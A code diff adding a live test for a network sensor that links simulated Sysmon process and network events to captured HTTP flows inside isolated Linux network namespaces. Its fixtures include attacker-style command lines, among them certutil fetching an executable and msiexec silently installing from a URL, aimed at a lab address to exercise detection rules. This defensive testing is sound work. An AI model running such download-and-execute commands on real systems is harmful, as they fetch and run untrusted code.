@@ -77,6 +77,122 @@ def live_capture(lw, tmp):
             sh("ip", "netns", "del", ns)
 
 
+def live_follow(lw, tmp):
+    """--follow on a live capture: host events appended while the sensor runs attribute
+    flows seen after them (certutil's URL in a command line) and flows already open before
+    them (a keep-alive connection whose Sysmon network event is written between its two
+    requests)."""
+    import json
+    import socket
+    if os.geteuid() != 0 or not shutil.which("ip"):
+        check("--follow live (needs root and iproute2)", False, "not root or no ip")
+        return
+    ns_a, ns_b = "lwtest-fa", "lwtest-fb"
+    sh = lambda *a: subprocess.run(a, capture_output=True, text=True)  # noqa: E731
+    for ns in (ns_a, ns_b):
+        sh("ip", "netns", "del", ns)
+    procs = []
+    try:
+        sh("ip", "netns", "add", ns_a)
+        sh("ip", "netns", "add", ns_b)
+        sh("ip", "link", "add", "lwf0", "netns", ns_a, "type", "veth", "peer", "name", "lwf1",
+           "netns", ns_b)
+        sh("ip", "-n", ns_a, "addr", "add", "192.0.2.1/24", "dev", "lwf0")
+        sh("ip", "-n", ns_b, "addr", "add", "192.0.2.2/24", "dev", "lwf1")
+        for ns, dev in ((ns_a, "lwf0"), (ns_b, "lwf1")):
+            sh("ip", "-n", ns, "link", "set", dev, "up")
+            sh("ip", "-n", ns, "link", "set", "lo", "up")
+        www = os.path.join(tmp, "www")
+        os.makedirs(www)
+        open(os.path.join(www, "tool.exe"), "wb").write(b"MZ" + b"\0" * 200)
+        open(os.path.join(www, "a.txt"), "w").write("a\n")
+        procs.append(subprocess.Popen(["ip", "netns", "exec", ns_a, sys.executable, "-m",
+                                       "http.server", "8000", "--bind", "192.0.2.1",
+                                       "--directory", www], stdout=subprocess.DEVNULL,
+                                      stderr=subprocess.DEVNULL))
+        feed = os.path.join(tmp, "sysmon.jsonl")
+        open(feed, "w").close()
+        out = os.path.join(tmp, "follow")
+        p = subprocess.Popen(["ip", "netns", "exec", ns_a, lw, "-i", "lwf0", "-o", out,
+                              "--seed", "1", "--host-events", feed, "--follow", "tcp"],
+                             stderr=subprocess.PIPE, text=True)
+        procs.append(p)
+        time.sleep(1.5)
+        now = time.strftime("%Y-%m-%d %H:%M:%S.000", time.gmtime())
+
+        def event(**kw):
+            e = {"SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS-LIVE",
+                 "UtcTime": now, "User": "LAB\\live"}
+            e.update(kw)
+            with open(feed, "a") as fh:
+                fh.write(json.dumps(e) + "\n")
+
+        event(EventID=1, ProcessGuid="{bbbb0001-0000-0000-0000-000000000001}", ProcessId="4100",
+              Image="C:\\Windows\\System32\\certutil.exe",
+              CommandLine="certutil.exe -urlcache -f http://192.0.2.1:8000/tool.exe t.exe")
+        time.sleep(1.0)
+        sh("ip", "netns", "exec", ns_b, "curl", "-s", "-o", "/dev/null", "-A",
+           "CertUtil URL Agent", "http://192.0.2.1:8000/tool.exe")
+        # A keep-alive connection from a fixed port: request, then the Sysmon network
+        # event, then a second request on the same connection.
+        client = subprocess.Popen(
+            ["ip", "netns", "exec", ns_b, sys.executable, "-c",
+             "import socket,time,sys\n"
+             "s=socket.socket();s.bind(('192.0.2.2',45678));s.connect(('192.0.2.1',8000))\n"
+             "r=b'GET /a.txt HTTP/1.1\\r\\nHost: 192.0.2.1:8000\\r\\nUser-Agent: x\\r\\n\\r\\n'\n"
+             "s.sendall(r);time.sleep(0.5);s.recv(65536);time.sleep(2.5)\n"
+             "s.sendall(r);time.sleep(0.5);s.recv(65536);s.close()\n"])
+        time.sleep(1.2)
+        event(EventID=3, ProcessGuid="{bbbb0002-0000-0000-0000-000000000002}", ProcessId="4200",
+              Image="C:\\Windows\\System32\\mshta.exe", Protocol="tcp", Initiated="true",
+              SourceIp="192.0.2.2", SourcePort="45678", DestinationIp="192.0.2.1",
+              DestinationPort="8000")
+        client.wait(timeout=20)
+        # Traffic first, its host event afterwards: a follow-up notice.
+        sh("ip", "netns", "exec", ns_b, "curl", "-s", "-o", "/dev/null", "-A",
+           "Windows Installer", "http://192.0.2.1:8000/a.txt?late")
+        time.sleep(1.0)
+        event(EventID=1, ProcessGuid="{bbbb0003-0000-0000-0000-000000000003}", ProcessId="4300",
+              Image="C:\\Windows\\System32\\msiexec.exe",
+              CommandLine="msiexec /i http://192.0.2.1:8000/a.txt?late /qn")
+        time.sleep(1.0)
+        p.send_signal(signal.SIGTERM)
+        try:
+            _, err = p.communicate(timeout=20)
+        except subprocess.TimeoutExpired:
+            p.kill()
+            check("--follow: exits on SIGTERM", False, "did not exit within 20 s")
+            return
+        http = read_zeek_log(os.path.join(out, "http.log")) if os.path.exists(
+            os.path.join(out, "http.log")) else []
+        tool = [h for h in http if h["uri"] == "/tool.exe"]
+        check("--follow: an event appended after start attributes a later flow (URL)",
+              p.returncode == 0 and tool and tool[0]["proc.image"].endswith("certutil.exe")
+              and tool[0]["proc.match"] == "url", f"{err[-300:]} {tool}")
+        ka = [h for h in http if h["id.orig_p"] == "45678"]
+        conns = [c for c in conn_rows(out) if c["id.orig_p"] == "45678"]
+        check("--follow: an event written after a connection opened attributes its later "
+              "requests and its conn.log row (5-tuple)",
+              len(ka) == 2 and ka[1]["proc.image"].endswith("mshta.exe") and conns and
+              conns[0]["proc.image"].endswith("mshta.exe") and conns[0]["proc.match"] == "tuple",
+              f"{[(h['trans_depth'], h['proc.image']) for h in ka]} {conns}")
+        notices = read_zeek_log(os.path.join(out, "notice.log")) if os.path.exists(
+            os.path.join(out, "notice.log")) else []
+        late = [n for n in notices if n["file_desc"].endswith("/a.txt?late")]
+        check("--follow: host events after the traffic give a follow-up notice with the process",
+              any(n["rule"] == "LW-PROC-MSIEXEC" and n["sub"].startswith("follow-up") and
+                  n["proc.image"].endswith("msiexec.exe") for n in late) and
+              any(not n["sub"].startswith("follow-up") for n in late),
+              str([(n["rule"], n["sub"][:40]) for n in late]))
+    finally:
+        for pr in procs:
+            if pr.poll() is None:
+                pr.kill()
+                pr.wait()
+        for ns in (ns_a, ns_b):
+            sh("ip", "netns", "del", ns)
+
+
 def main():
     lw, shared = sys.argv[1], sys.argv[2]
     traces = os.path.join(shared, "corpus/zeek/testing/btest/Traces")
@@ -155,6 +271,7 @@ def main():
 
         detection_options(lw, wiki, shared, tmp)
         live_capture(lw, tmp)
+        live_follow(lw, tmp)
     finally:
         shutil.rmtree(tmp, ignore_errors=True)
 
